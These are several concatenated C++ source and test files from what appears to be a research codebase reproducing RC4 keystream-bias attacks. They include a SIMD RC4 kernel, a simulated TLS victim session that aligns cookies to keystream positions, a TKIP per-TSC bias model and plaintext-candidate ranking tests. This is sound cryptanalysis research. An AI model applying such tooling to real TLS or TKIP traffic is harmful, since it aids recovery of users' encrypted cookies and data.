// core (kWidth, Reg, Load, Store, Add8, Zero, Set1):
//
//   * V::GatherRow(st, idx, row): row[m] = st[idx[m] * kWidth + m] for all
//     lanes — a hardware dword gather reading each wanted byte (plus a
//     3-byte overread absorbed by gather_pad_). AVX2/AVX-512 provide it.
//   * V::Transpose16x16(src, src_stride, dst, dst_stride): 16x16 byte
//     transpose, enabling TILED EMIT: output bytes are staged into a
//     contiguous transposed tile (tile_ row c = output byte c of all lanes,
//     one aligned W-wide store), then block-transposed into the caller's
//     row-major batch rows as 16-byte streaming stores — instead of W
//     single-byte strided stores per output position.
//
// A trait that provides neither hook (NEON) runs the exact pre-tile scalar
// column path, byte for byte. The math per lane is untouched in every
// variant; bit-exactness versus scalar Rc4 is structural, and
// tests/rc4/kernel_sweep_test.cc plus the autotuner's verify-before-time
// step re-check it for every (kernel, width, emit path).
#ifndef SRC_RC4_KERNEL_LANES_H_
#define SRC_RC4_KERNEL_LANES_H_

#include <algorithm>
#include <cstdint>
#include <cstring>
#include <span>

#include "src/rc4/kernel.h"

namespace rc4b {

template <typename V>
class TransposedLaneKernel final : public Rc4LaneKernel {
 public:
  static constexpr size_t kW = V::kWidth;
  // Output positions staged per tile before a transpose flush. 64 keeps the
  // tile (64 x W bytes) L1-resident at every width and makes whole-tile
  // fills the common case for the 256-byte workloads.
  static constexpr size_t kTileCols = 64;

  static constexpr bool kHasTranspose =
      requires(const uint8_t* src, uint8_t* dst) {
        V::Transpose16x16(src, size_t{0}, dst, size_t{0});
      };
  static constexpr bool kHasGather =
      requires(const uint8_t* st, const uint8_t* idx, uint8_t* row) {
        V::GatherRow(st, idx, row);
      };
  // The tile flush walks lanes in 16-wide blocks.
  static_assert(!kHasTranspose || kW % 16 == 0,
                "tiled emit requires a multiple-of-16 lane count");

  size_t Width() const override { return kW; }

  void Init(std::span<const uint8_t> keys, size_t key_size) override {
    // Transpose the key material once: kt_ row p holds key byte p of every
    // lane, indexed by the shared KSA key index i mod key_size.
    for (size_t p = 0; p < key_size; ++p) {
      for (size_t m = 0; m < kW; ++m) {
        kt_[p][m] = keys[m * key_size + p];
      }
    }
    for (size_t v = 0; v < 256; ++v) {
      V::Store(st_[v], V::Set1(static_cast<uint8_t>(v)));
    }
    typename V::Reg j = V::Zero();
    alignas(64) uint8_t jb[kW];
    for (size_t i = 0; i < 256; ++i) {
      j = V::Add8(j, V::Add8(V::Load(st_[i]), V::Load(kt_[i % key_size])));
      V::Store(jb, j);
      for (size_t m = 0; m < kW; ++m) {
        const uint8_t jm = jb[m];
        const uint8_t si = st_[i][m];
        st_[i][m] = st_[jm][m];
        st_[jm][m] = si;
      }
    }
    j_ = V::Zero();
    i_ = 0;
  }

  void Skip(uint64_t n) override { Generate<false>(nullptr, n, 0); }

  void Keystream(uint8_t* out, size_t length, size_t stride) override {
    if constexpr (kHasTranspose) {
      GenerateTiled(out, length, stride);
    } else {
      Generate<true>(out, length, stride);
    }
  }

 private:
  // Pre-tile path: Skip() for every trait, and emit for traits without a
  // transpose hook (NEON) — their strided per-byte stores are unchanged.
  template <bool kEmit>
  void Generate(uint8_t* out, uint64_t length, size_t stride) {
    typename V::Reg j = j_;
    uint8_t i = i_;
    alignas(64) uint8_t jb[kW];
    alignas(64) uint8_t sib[kW];
    alignas(64) uint8_t sjb[kW];
    alignas(64) uint8_t ib[kW];
    for (uint64_t t = 0; t < length; ++t) {
      i = static_cast<uint8_t>(i + 1);
      const typename V::Reg si = V::Load(st_[i]);
      j = V::Add8(j, si);
      V::Store(jb, j);
      V::Store(sib, si);
      // Lane-divergent half of the swap: fetch old S[j], store old S[i]
      // there. When j[m] == i this writes S[i] = S[i] (no-op), and the row
      // store below rewrites st_[i][m] with the same value — still exact.
      for (size_t m = 0; m < kW; ++m) {
        const uint8_t jm = jb[m];
        sjb[m] = st_[jm][m];
        st_[jm][m] = sib[m];
      }
      const typename V::Reg sj = V::Load(sjb);
      V::Store(st_[i], sj);  // S[i] = old S[j], all lanes at once
      if constexpr (kEmit) {
        V::Store(ib, V::Add8(si, sj));
        for (size_t m = 0; m < kW; ++m) {
          out[m * stride + t] = st_[ib[m]][m];
        }
      }
    }
    j_ = j;
    i_ = i;
  }

  // Tiled emit: same per-position math as Generate<true>, but the output row
  // (byte t of every lane) lands in the contiguous tile as ONE aligned
  // W-wide store (or a hardware gather straight into it), and each full tile
  // is block-transposed to the caller's row-major layout afterwards. Partial
  // tiles — a length tail, or a short Keystream() call in a split-generation
  // sequence — flush their ragged columns bytewise; the seam carries i/j/st_
  // exactly like every other path, so tile boundaries are invisible in the
  // byte sequence.
  void GenerateTiled(uint8_t* out, size_t length, size_t stride) {
    typename V::Reg j = j_;
    uint8_t i = i_;
    alignas(64) uint8_t jb[kW];
    alignas(64) uint8_t sib[kW];
    alignas(64) uint8_t sjb[kW];
    alignas(64) uint8_t ib[kW];
    size_t t = 0;
    while (t < length) {
      const size_t cols = std::min(kTileCols, length - t);
      for (size_t c = 0; c < cols; ++c) {
        i = static_cast<uint8_t>(i + 1);
        const typename V::Reg si = V::Load(st_[i]);
        j = V::Add8(j, si);
        V::Store(jb, j);
        V::Store(sib, si);
        for (size_t m = 0; m < kW; ++m) {
          const uint8_t jm = jb[m];
          sjb[m] = st_[jm][m];
          st_[jm][m] = sib[m];
        }
        const typename V::Reg sj = V::Load(sjb);
        V::Store(st_[i], sj);
        V::Store(ib, V::Add8(si, sj));
        if constexpr (kHasGather) {
          V::GatherRow(&st_[0][0], ib, tile_[c]);
        } else {
          for (size_t m = 0; m < kW; ++m) {
            tile_[c][m] = st_[ib[m]][m];
          }
        }
      }
      FlushTile(out + t, cols, stride);
      t += cols;
    }
    j_ = j;
    i_ = i;
  }

  // Writes tile_[0..cols) x kW lanes to out[m * stride + c]: full 16-column
  // blocks through the vector transpose, the ragged remainder bytewise.
  void FlushTile(uint8_t* out, size_t cols, size_t stride) {
    size_t c = 0;
    for (; c + 16 <= cols; c += 16) {
      for (size_t m = 0; m < kW; m += 16) {
        V::Transpose16x16(&tile_[c][m], kW, out + m * stride + c, stride);
      }
    }
    for (; c < cols; ++c) {
      for (size_t m = 0; m < kW; ++m) {
        out[m * stride + c] = tile_[c][m];
      }
    }
  }

  alignas(64) uint8_t st_[256][kW];
  // GatherRow reads a dword per lane, so the last row's high columns overread
  // st_ by up to 3 bytes; this slack keeps those reads inside the object.
  uint8_t gather_pad_[4] = {};
  alignas(64) uint8_t kt_[256][kW];  // transposed key columns (KSA only)
  alignas(64) uint8_t tile_[kTileCols][kW];  // transposed emit staging
  typename V::Reg j_;
  uint8_t i_ = 0;
};

}  // namespace rc4b

#endif  // SRC_RC4_KERNEL_LANES_H_
