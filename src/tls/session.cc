#include "src/tls/session.h"

#include <cassert>

namespace rc4b {

TlsVictimSession::TlsVictimSession(HttpRequestTemplate tmpl, Bytes cookie,
                                   size_t keystream_alignment, Xoshiro256& rng)
    : tmpl_(std::move(tmpl)),
      cookie_(std::move(cookie)),
      mac_key_(HmacSha1::kDigestSize),
      rc4_key_(16),
      writer_((rng.Fill(mac_key_), rng.Fill(rc4_key_),
               TlsWriteState(mac_key_, rc4_key_))) {
  // Each request consumes payload + MAC bytes of keystream. Keeping that
  // stride a multiple of 256 makes one fixed in-request offset give a fixed
  // keystream position modulo 256 for every request — the paper's alignment
  // requirement (Sect. 6.3). 492 + 20 = 512: the "512-byte encrypted
  // requests" its capture tool looks for.
  assert(StreamStride() % 256 == 0);
  tmpl_.cookie_alignment = keystream_alignment % 256;
  shaped_ = BuildAlignedRequest(tmpl_, cookie_);
}

Bytes TlsVictimSession::NextRequest() {
  ++requests_sent_;
  return writer_.Seal(shaped_.plaintext);
}

size_t TlsVictimSession::CookieStreamPosition(uint64_t request_index) const {
  return request_index * StreamStride() + shaped_.cookie_offset;
}

TlsReadState TlsVictimSession::MakeServerReader() const {
  return TlsReadState(mac_key_, rc4_key_);
}

}  // namespace rc4b
