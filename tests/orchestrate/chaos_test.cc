// Campaign chaos suite (docs/orchestrate.md): every injected fault class —
// killed workers, torn final writes, silent CRC corruption, stalled I/O —
// must leave the campaign able to finish, and the merged grid must be
// byte-identical to the single-process reference. Persistent corruption must
// quarantine, not hang and not abort.
//
// The scheduler forks real worker processes, so these tests exercise the
// actual host-failure recovery path end to end; they are excluded from the
// TSan leg (fork) but run under the plain and ASan builds and as a dedicated
// CI job via tools/grid_campaign.
#include "src/orchestrate/scheduler.h"

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <string>

#include <gtest/gtest.h>

#include "src/common/fault_injector.h"
#include "src/store/merge.h"
#include "src/store/shard_runner.h"

namespace rc4b::orchestrate {
namespace {

// Fresh per invocation: campaigns resume from whatever artifacts exist, so
// leftovers from a previous run would silently skip the faulted work.
std::string FreshDir(const std::string& name) {
  const std::string dir = std::string(::testing::TempDir()) + "/" + name;
  std::filesystem::remove_all(dir);
  MakeDirs(dir);
  return dir;
}

// Arms RC4B_FAULTS for the scope of one test. Workers inherit the
// environment and re-parse it after fork, so the guard only needs setenv +
// a reload in this process.
class FaultGuard {
 public:
  FaultGuard(const std::string& spec, const std::string& state_dir) {
    ::setenv("RC4B_FAULTS", spec.c_str(), 1);
    ::setenv("RC4B_FAULT_STATE_DIR", state_dir.c_str(), 1);
    FaultInjector::Instance().ReloadFromEnv();
  }
  ~FaultGuard() {
    ::unsetenv("RC4B_FAULTS");
    ::unsetenv("RC4B_FAULT_STATE_DIR");
    FaultInjector::Instance().ReloadFromEnv();
  }
  FaultGuard(const FaultGuard&) = delete;
  FaultGuard& operator=(const FaultGuard&) = delete;
};

store::GridMeta SmallGrid(uint64_t keys) {
  store::GridMeta grid;
  grid.kind = store::GridKind::kConsecutive;
  grid.seed = 33;
  grid.key_begin = 0;
  grid.key_end = keys;
  grid.rows = 8;
  return grid;
}

struct Campaign {
  store::Manifest manifest;
  std::string manifest_path;
  CampaignOptions options;
};

Campaign PlanCampaign(const std::string& dir, uint64_t keys, uint32_t shards) {
  Campaign campaign;
  campaign.manifest = store::PlanShards(SmallGrid(keys), shards, dir + "/c");
  campaign.manifest_path = dir + "/c.manifest";
  EXPECT_TRUE(
      store::WriteManifest(campaign.manifest_path, campaign.manifest).ok());
  campaign.options.shard.checkpoint_keys = 0x400;
  campaign.options.shard.workers = 1;
  campaign.options.retry.max_attempts = 6;  // headroom for compound faults
  campaign.options.retry.base_delay_ms = 10;
  campaign.options.retry.max_delay_ms = 50;
  campaign.options.poll_ms = 5;
  campaign.options.max_parallel = 2;
  return campaign;
}

// Runs the campaign and, when it completes, checks the merged grid against
// the single-process reference — the whole point of the recovery machinery.
CampaignReport RunAndVerify(const Campaign& campaign, bool expect_complete) {
  CampaignScheduler scheduler(campaign.manifest, campaign.manifest_path,
                              campaign.options);
  CampaignReport report;
  EXPECT_TRUE(scheduler.Run(&report).ok());
  EXPECT_EQ(report.complete(), expect_complete) << report.Summary();
  if (report.complete()) {
    store::StoredGrid merged;
    EXPECT_TRUE(store::MergeShardGrids(campaign.manifest,
                                       campaign.manifest_path, &merged)
                    .ok());
    const store::StoredGrid reference =
        store::GenerateStoredGrid(campaign.manifest.grid, 1, 0);
    EXPECT_TRUE(
        store::CheckGridsEqual(reference, merged, "reference", "merged").ok());
  }
  return report;
}

uint32_t TotalAttempts(const CampaignReport& report) {
  uint32_t attempts = 0;
  for (const ShardStatus& shard : report.shards) {
    attempts += shard.attempts;
  }
  return attempts;
}

TEST(ChaosTest, CleanCampaignMergesBitIdentically) {
  const std::string dir = FreshDir("chaos-clean");
  const Campaign campaign = PlanCampaign(dir, 0x2000, 2);
  const CampaignReport report = RunAndVerify(campaign, true);
  for (const ShardStatus& shard : report.shards) {
    EXPECT_EQ(shard.state, ShardState::kDone);
    EXPECT_EQ(shard.attempts, 1u);
  }
}

TEST(ChaosTest, RerunningAFinishedCampaignLaunchesNothing) {
  const std::string dir = FreshDir("chaos-rerun");
  const Campaign campaign = PlanCampaign(dir, 0x2000, 2);
  RunAndVerify(campaign, true);
  const CampaignReport again = RunAndVerify(campaign, true);
  EXPECT_EQ(TotalAttempts(again), 0u) << again.Summary();
}

TEST(ChaosTest, KilledWorkerResumesFromCheckpointBitIdentically) {
  const std::string dir = FreshDir("chaos-kill");
  const Campaign campaign = PlanCampaign(dir, 0x2000, 2);
  // SIGKILL one worker right after its second durable checkpoint; the retry
  // must resume from that checkpoint, not recompute or corrupt.
  const FaultGuard faults("kill-at-checkpoint=2", FreshDir("chaos-kill-state"));
  const CampaignReport report = RunAndVerify(campaign, true);
  EXPECT_GE(TotalAttempts(report), 3u) << report.Summary();
}

TEST(ChaosTest, TornFinalWriteIsQuarantinedAndRetried) {
  const std::string dir = FreshDir("chaos-torn");
  const Campaign campaign = PlanCampaign(dir, 0x2000, 2);
  // The worker dies mid-"rename", leaving a truncated final grid. The next
  // attempt must detect it, set it aside and rewrite it from scratch.
  const FaultGuard faults("torn-final-write@c-shard1.grid$",
                          FreshDir("chaos-torn-state"));
  const CampaignReport report = RunAndVerify(campaign, true);
  EXPECT_GE(report.shards[1].attempts, 2u) << report.Summary();
}

TEST(ChaosTest, SilentCrcFlipOnAcceptedFinalIsCaught) {
  const std::string dir = FreshDir("chaos-flip");
  const Campaign campaign = PlanCampaign(dir, 0x2000, 2);
  // The worker commits, the fault flips one byte after the commit, and the
  // worker exits 0 — only the scheduler's trust-but-verify validation of
  // "successful" artifacts can catch this class.
  const FaultGuard faults("crc-flip@c-shard0.grid$",
                          FreshDir("chaos-flip-state"));
  const CampaignReport report = RunAndVerify(campaign, true);
  EXPECT_GE(report.shards[0].attempts, 2u) << report.Summary();
  EXPECT_FALSE(report.shards[0].quarantined_files.empty()) << report.Summary();
}

TEST(ChaosTest, StalledWorkerLosesItsLeaseAndTheShardIsReassigned) {
  const std::string dir = FreshDir("chaos-stall");
  Campaign campaign = PlanCampaign(dir, 0x2000, 2);
  campaign.options.lease_ttl_ms = 400;
  // On a saturated box a healthy worker can also blow a sub-second TTL and
  // get reaped; progress is monotone across retries (checkpoints persist),
  // so extra attempts are the right headroom — the assertion below is about
  // recovery, not about the attempt count staying minimal.
  campaign.options.retry.max_attempts = 12;
  // One checkpoint write sleeps far past the lease TTL; the scheduler must
  // declare the worker dead, kill it and rerun the shard.
  const FaultGuard faults("delay-io-ms=2000@.ckpt",
                          FreshDir("chaos-stall-state"));
  const CampaignReport report = RunAndVerify(campaign, true);
  EXPECT_GE(TotalAttempts(report), 3u) << report.Summary();
}

TEST(ChaosTest, EveryFaultClassAtOnceStillMergesBitIdentically) {
  const std::string dir = FreshDir("chaos-all");
  const Campaign campaign = PlanCampaign(dir, 0x2000, 2);
  const FaultGuard faults(
      "kill-at-checkpoint=2;torn-final-write@c-shard1.grid$;"
      "crc-flip@c-shard0.grid$",
      FreshDir("chaos-all-state"));
  RunAndVerify(campaign, true);
}

TEST(ChaosTest, PersistentCorruptionQuarantinesInsteadOfHanging) {
  const std::string dir = FreshDir("chaos-quarantine");
  Campaign campaign = PlanCampaign(dir, 0x2000, 2);
  campaign.options.retry.max_attempts = 2;
  // '*0' = unlimited budget: shard 0's final grid is corrupted on every
  // attempt. The campaign must spend the budget, quarantine the shard, and
  // still deliver shard 1.
  const FaultGuard faults("crc-flip@c-shard0.grid$*0",
                          FreshDir("chaos-quarantine-state"));
  const CampaignReport report = RunAndVerify(campaign, false);
  EXPECT_EQ(report.quarantined(), 1u) << report.Summary();
  EXPECT_EQ(report.shards[0].state, ShardState::kQuarantined);
  EXPECT_EQ(report.shards[0].attempts, 2u);
  EXPECT_EQ(report.shards[1].state, ShardState::kDone);

  // Graceful degradation: the partial merge carries the healthy shard and
  // names the missing one.
  store::MergeOptions merge_options;
  merge_options.allow_missing = true;
  store::StoredGrid merged;
  store::MergeOutcome outcome;
  ASSERT_TRUE(store::MergeShardGridsEx(campaign.manifest,
                                       campaign.manifest_path, merge_options,
                                       &merged, &outcome)
                  .ok());
  ASSERT_EQ(outcome.missing.size(), 1u);
  EXPECT_EQ(outcome.missing[0].index, 0u);
  EXPECT_EQ(outcome.merged.size(), 1u);
}

TEST(ChaosTest, IncrementalExtensionRerunsOnlyNewShards) {
  const std::string dir = FreshDir("chaos-extend");
  Campaign campaign = PlanCampaign(dir, 0x2000, 2);
  RunAndVerify(campaign, true);

  // Merge the finished prefix, then grow the plan and delete the old shard
  // files — exactly the state after shipping a merged grid and reclaiming
  // worker disk space.
  store::StoredGrid base;
  ASSERT_TRUE(store::MergeShardGrids(campaign.manifest, campaign.manifest_path,
                                     &base)
                  .ok());
  ASSERT_TRUE(
      store::ExtendManifestPlan(&campaign.manifest, 0x4000, 2, dir + "/c").ok());
  ASSERT_TRUE(
      store::WriteManifest(campaign.manifest_path, campaign.manifest).ok());
  for (uint32_t i = 0; i < 2; ++i) {
    std::remove(campaign.manifest.shards[i].path.c_str());
  }

  campaign.options.merged_through_key = base.meta.key_end;
  CampaignScheduler scheduler(campaign.manifest, campaign.manifest_path,
                              campaign.options);
  CampaignReport report;
  ASSERT_TRUE(scheduler.Run(&report).ok());
  EXPECT_TRUE(report.complete()) << report.Summary();
  EXPECT_EQ(report.shards[0].state, ShardState::kSkipped);
  EXPECT_EQ(report.shards[1].state, ShardState::kSkipped);
  EXPECT_EQ(report.shards[2].state, ShardState::kDone);
  EXPECT_EQ(report.shards[3].state, ShardState::kDone);

  store::MergeOptions merge_options;
  merge_options.base = &base;
  store::StoredGrid merged;
  store::MergeOutcome outcome;
  ASSERT_TRUE(store::MergeShardGridsEx(campaign.manifest,
                                       campaign.manifest_path, merge_options,
                                       &merged, &outcome)
                  .ok());
  EXPECT_EQ(outcome.skipped.size(), 2u);
  const store::StoredGrid reference =
      store::GenerateStoredGrid(SmallGrid(0x4000), 1, 0);
  EXPECT_TRUE(
      store::CheckGridsEqual(reference, merged, "reference", "merged").ok());
}

TEST(ChaosTest, CampaignProgressReadsCheckpointProvenance) {
  const std::string dir = FreshDir("chaos-progress");
  const Campaign campaign = PlanCampaign(dir, 0x2000, 2);
  const std::vector<uint64_t> before =
      CampaignProgress(campaign.manifest, campaign.manifest_path);
  ASSERT_EQ(before.size(), 2u);
  EXPECT_EQ(before[0] + before[1], 0u);

  RunAndVerify(campaign, true);
  const std::vector<uint64_t> after =
      CampaignProgress(campaign.manifest, campaign.manifest_path);
  EXPECT_EQ(after[0], 0x1000u);
  EXPECT_EQ(after[1], 0x1000u);
}

}  // namespace
}  // namespace rc4b::orchestrate
