// Per-TSC keystream distribution models for the TKIP attack (Sect. 5.1).
//
// Paterson et al. observed that because the first three RC4 key bytes are a
// public function of the TSC, the keystream distribution at each position
// depends strongly on the TSC. The paper regenerated such per-(TSC0, TSC1)
// statistics with 2^32 keys per TSC pair (10 CPU-years).
//
// Substitution (see DESIGN.md): we condition on TSC1 only — TSC1 determines
// the first *two* key bytes (K0 = TSC1, K1 = (TSC1|0x20) & 0x7f) and thus
// carries the dominant key-structure bias — and marginalize over TSC0 by
// sampling it uniformly. This shrinks the model from 65536 to 256 classes so
// it regenerates in minutes; `keys_per_class` scales fidelity, `SetRow`
// admits externally trained (including full per-(TSC0, TSC1)) distributions,
// and Save/Load persist expensive models across runs.
#ifndef SRC_TKIP_TSC_MODEL_H_
#define SRC_TKIP_TSC_MODEL_H_

#include <cstdint>
#include <string>
#include <vector>

#include "src/common/bytes.h"
#include "src/common/io.h"

namespace rc4b {

class TkipTscModel {
 public:
  // Positions are 1-based keystream positions [first_position, last_position].
  TkipTscModel(size_t first_position, size_t last_position);

  size_t first_position() const { return first_position_; }
  size_t last_position() const { return last_position_; }
  size_t position_count() const { return last_position_ - first_position_ + 1; }

  // log Pr[Z_pos = value | TSC1 = tsc1], pos 1-based within the range.
  const double* LogRow(uint8_t tsc1, size_t pos) const {
    return log_p_.data() + (static_cast<size_t>(tsc1) * position_count() +
                            (pos - first_position_)) *
                               256;
  }

  double LogProb(uint8_t tsc1, size_t pos, uint8_t value) const {
    return LogRow(tsc1, pos)[value];
  }

  // Pr[Z_pos = value | TSC1] (exp of the stored log-probability).
  double Probability(uint8_t tsc1, size_t pos, uint8_t value) const;

  uint64_t keys_per_class() const { return keys_per_class_; }

  // Estimates the model by sampling `keys_per_class` keys per TSC1 value with
  // the paper's key model: K0..K2 fixed by the TSC, remaining 13 bytes (and
  // TSC0) uniformly random. Laplace smoothing (+1) keeps log-probabilities
  // finite at small sample sizes.
  void Generate(uint64_t keys_per_class, uint64_t seed, unsigned workers = 0);

  // Overrides one conditional distribution (256 probabilities, need not be
  // normalized — stored as log). For tests and externally-trained models.
  void SetRow(uint8_t tsc1, size_t pos, std::span<const double> probabilities);

  // Rescales every conditional distribution toward uniform:
  //   p <- 1/256 + factor * (p - 1/256).
  // Used by the perfect-model simulation harness to calibrate the model's
  // effective bias magnitude to the measured real per-TSC1 signal (a model
  // estimated from K keys/class carries sampling noise of RMS 16/sqrt(K)
  // relative, which would otherwise act as inflated bias; see DESIGN.md).
  void ShrinkTowardUniform(double factor);

  // RMS relative deviation from uniform across all cells.
  double RmsRelativeDeviation() const;

  // Binary persistence, so expensive models can be generated once and reused
  // across bench runs. Save lands atomically (write-rename); Load fails with
  // a path-qualified message on a position-range or format mismatch.
  IoStatus Save(const std::string& path) const;
  IoStatus Load(const std::string& path);

 private:
  size_t first_position_;
  size_t last_position_;
  uint64_t keys_per_class_ = 0;
  std::vector<double> log_p_;  // [tsc1][pos][value]
};

}  // namespace rc4b

#endif  // SRC_TKIP_TSC_MODEL_H_
