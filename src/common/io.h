// Minimal binary (de)serialization for datasets and models. Expensive
// artifacts (per-TSC models, digraph grids) can be generated once and reused
// across bench runs. Format: little-endian, magic + version header, raw
// arrays; not portable across endianness (research tooling, not a wire
// format).
#ifndef SRC_COMMON_IO_H_
#define SRC_COMMON_IO_H_

#include <cstdint>
#include <cstdio>
#include <span>
#include <string>
#include <vector>

namespace rc4b {

class BinaryWriter {
 public:
  explicit BinaryWriter(const std::string& path);
  ~BinaryWriter();

  BinaryWriter(const BinaryWriter&) = delete;
  BinaryWriter& operator=(const BinaryWriter&) = delete;

  bool ok() const { return file_ != nullptr; }

  void WriteU64(uint64_t v);
  void WriteDoubles(std::span<const double> values);
  void WriteU64s(std::span<const uint64_t> values);

 private:
  std::FILE* file_ = nullptr;
};

class BinaryReader {
 public:
  explicit BinaryReader(const std::string& path);
  ~BinaryReader();

  BinaryReader(const BinaryReader&) = delete;
  BinaryReader& operator=(const BinaryReader&) = delete;

  // ok() turns false on the first failed read.
  bool ok() const { return file_ != nullptr && !failed_; }

  uint64_t ReadU64();
  bool ReadDoubles(std::span<double> out);
  bool ReadU64s(std::span<uint64_t> out);

 private:
  std::FILE* file_ = nullptr;
  bool failed_ = false;
};

}  // namespace rc4b

#endif  // SRC_COMMON_IO_H_
