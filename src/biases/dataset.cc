#include "src/biases/dataset.h"

#include <cassert>

#include "src/engine/accumulators.h"
#include "src/engine/keystream_engine.h"
#include "src/store/grid_cache.h"

namespace rc4b {

// All generators are thin drivers over the sharded keystream engine
// (src/engine/): they pick an accumulator, forward the scale knobs, and
// return the merged grid. The engine guarantees the result is bit-identical
// for any worker count (keys are indexed globally in one AES-CTR stream).
//
// When cache_dir is set (and the request starts at key 0), the grid
// generators route through store::GridCache instead: load the stored grid if
// its provenance matches, otherwise generate once and store it back. Shards
// of a distributed run (first_key != 0) never consult the cache — their
// slices are keyed by range in the shard manifest instead.

namespace {

bool UseCache(const DatasetOptions& options) {
  return !options.cache_dir.empty() && options.first_key == 0;
}

EngineOptions ToEngineOptions(const DatasetOptions& options) {
  EngineOptions engine;
  engine.keys = options.keys;
  engine.workers = options.workers;
  engine.seed = options.seed;
  engine.interleave = options.interleave;
  engine.kernel = options.kernel;
  engine.first_key = options.first_key;
  return engine;
}

LongTermEngineOptions ToLongTermOptions(const LongTermOptions& options) {
  LongTermEngineOptions engine;
  engine.keys = options.keys;
  engine.bytes_per_key = options.bytes_per_key;
  engine.drop = options.drop;
  engine.workers = options.workers;
  engine.seed = options.seed;
  engine.interleave = options.interleave;
  engine.kernel = options.kernel;
  engine.first_key = options.first_key;
  // 64 KiB windows; the engine consumes every whole 256-byte block of
  // bytes_per_key regardless of the window size.
  return engine;
}

}  // namespace

SingleByteGrid GenerateSingleByteDataset(size_t positions,
                                         const DatasetOptions& options) {
  if (UseCache(options)) {
    return store::GridCache(options.cache_dir)
        .LoadOrGenerateSingleByte(positions, options);
  }
  SingleByteAccumulator accumulator(positions);
  RunKeystreamEngine(ToEngineOptions(options), accumulator);
  return accumulator.TakeGrid();
}

DigraphGrid GenerateConsecutiveDataset(size_t positions, const DatasetOptions& options) {
  if (UseCache(options)) {
    return store::GridCache(options.cache_dir)
        .LoadOrGenerateConsecutive(positions, options);
  }
  ConsecutiveAccumulator accumulator(positions);
  RunKeystreamEngine(ToEngineOptions(options), accumulator);
  return accumulator.TakeGrid();
}

DigraphGrid GeneratePairDataset(const std::vector<std::pair<uint32_t, uint32_t>>& pairs,
                                const DatasetOptions& options) {
  if (UseCache(options)) {
    return store::GridCache(options.cache_dir).LoadOrGeneratePair(pairs, options);
  }
  PairAccumulator accumulator(pairs);
  RunKeystreamEngine(ToEngineOptions(options), accumulator);
  return accumulator.TakeGrid();
}

DigraphGrid GenerateLongTermDigraphDataset(const LongTermOptions& options) {
  assert(options.drop % 256 == 0);
  if (!options.cache_dir.empty() && options.first_key == 0) {
    return store::GridCache(options.cache_dir).LoadOrGenerateLongTermDigraph(options);
  }
  LongTermDigraphAccumulator accumulator;
  RunLongTermEngine(ToLongTermOptions(options), accumulator);
  return accumulator.TakeGrid();
}

AbsabCounts GenerateAbsabDataset(uint64_t max_gap, const LongTermOptions& options) {
  AbsabAccumulator accumulator(max_gap);
  RunLongTermEngine(ToLongTermOptions(options), accumulator);
  AbsabCounts totals;
  totals.matches = accumulator.matches();
  totals.samples = accumulator.samples();
  return totals;
}

std::vector<uint64_t> GenerateAlignedPairDataset(uint32_t offset_a, uint32_t offset_b,
                                                 const LongTermOptions& options) {
  assert(offset_a < offset_b && offset_b < 256);
  assert(options.drop % 256 == 0 && options.drop > 0);
  AlignedPairAccumulator accumulator(offset_a, offset_b);
  RunLongTermEngine(ToLongTermOptions(options), accumulator);
  return accumulator.TakeCounts();
}

}  // namespace rc4b
