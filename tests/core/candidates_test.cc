#include "src/core/candidates.h"

#include <algorithm>
#include <cmath>
#include <map>

#include <gtest/gtest.h>

#include "src/common/rng.h"

namespace rc4b {
namespace {

// Exhaustive reference: all length-L strings over a tiny alphabet ranked by
// total score, for validating the list algorithms.
std::vector<Candidate> BruteForceSingle(const SingleByteTables& tables, size_t n) {
  const size_t length = tables.size();
  std::vector<Candidate> all;
  std::vector<uint8_t> current(length, 0);
  // Only feasible for small lengths: iterate 256^L via odometer.
  while (true) {
    Candidate c;
    c.plaintext = current;
    c.log_likelihood = 0.0;
    for (size_t r = 0; r < length; ++r) {
      c.log_likelihood += tables[r][current[r]];
    }
    all.push_back(c);
    size_t pos = 0;
    while (pos < length && ++current[pos] == 0) {
      ++pos;
    }
    if (pos == length) {
      break;
    }
  }
  std::stable_sort(all.begin(), all.end(), [](const Candidate& a, const Candidate& b) {
    return a.log_likelihood > b.log_likelihood;
  });
  all.resize(std::min(all.size(), n));
  return all;
}

SingleByteTables RandomTables(size_t length, uint64_t seed) {
  Xoshiro256 rng(seed);
  SingleByteTables tables(length, std::vector<double>(256));
  for (auto& table : tables) {
    for (auto& v : table) {
      v = -rng.UnitDouble() * 10.0;
    }
  }
  return tables;
}

TEST(Algorithm1Test, TopCandidateIsPerPositionArgmax) {
  const auto tables = RandomTables(5, 1);
  const auto candidates = GenerateCandidatesSingle(tables, 1);
  ASSERT_EQ(candidates.size(), 1u);
  for (size_t r = 0; r < 5; ++r) {
    const auto& row = tables[r];
    const uint8_t best = static_cast<uint8_t>(
        std::max_element(row.begin(), row.end()) - row.begin());
    EXPECT_EQ(candidates[0].plaintext[r], best);
  }
}

TEST(Algorithm1Test, OutputSortedDescending) {
  const auto tables = RandomTables(4, 2);
  const auto candidates = GenerateCandidatesSingle(tables, 500);
  for (size_t i = 1; i < candidates.size(); ++i) {
    EXPECT_GE(candidates[i - 1].log_likelihood, candidates[i].log_likelihood);
  }
}

TEST(Algorithm1Test, MatchesBruteForceOnShortLength) {
  const auto tables = RandomTables(2, 3);
  const size_t n = 300;
  const auto got = GenerateCandidatesSingle(tables, n);
  const auto expected = BruteForceSingle(tables, n);
  ASSERT_EQ(got.size(), n);
  for (size_t i = 0; i < n; ++i) {
    // Scores must agree exactly in order (plaintexts can tie-swap).
    ASSERT_NEAR(got[i].log_likelihood, expected[i].log_likelihood, 1e-9) << i;
  }
}

TEST(Algorithm1Test, NoDuplicates) {
  const auto tables = RandomTables(3, 4);
  const auto candidates = GenerateCandidatesSingle(tables, 2000);
  std::map<Bytes, int> seen;
  for (const auto& c : candidates) {
    EXPECT_EQ(++seen[c.plaintext], 1);
  }
}

TEST(Algorithm1Test, ScoresAreConsistentWithPlaintexts) {
  const auto tables = RandomTables(6, 5);
  for (const auto& c : GenerateCandidatesSingle(tables, 100)) {
    double score = 0.0;
    for (size_t r = 0; r < 6; ++r) {
      score += tables[r][c.plaintext[r]];
    }
    EXPECT_NEAR(score, c.log_likelihood, 1e-9);
  }
}

TEST(LazyEnumeratorTest, MatchesAlgorithm1Order) {
  const auto tables = RandomTables(4, 6);
  const size_t n = 1500;
  const auto reference = GenerateCandidatesSingle(tables, n);
  LazyCandidateEnumerator enumerator(tables);
  for (size_t i = 0; i < n; ++i) {
    const Candidate c = enumerator.Next();
    ASSERT_NEAR(c.log_likelihood, reference[i].log_likelihood, 1e-9) << "i=" << i;
  }
  EXPECT_EQ(enumerator.popped(), n);
}

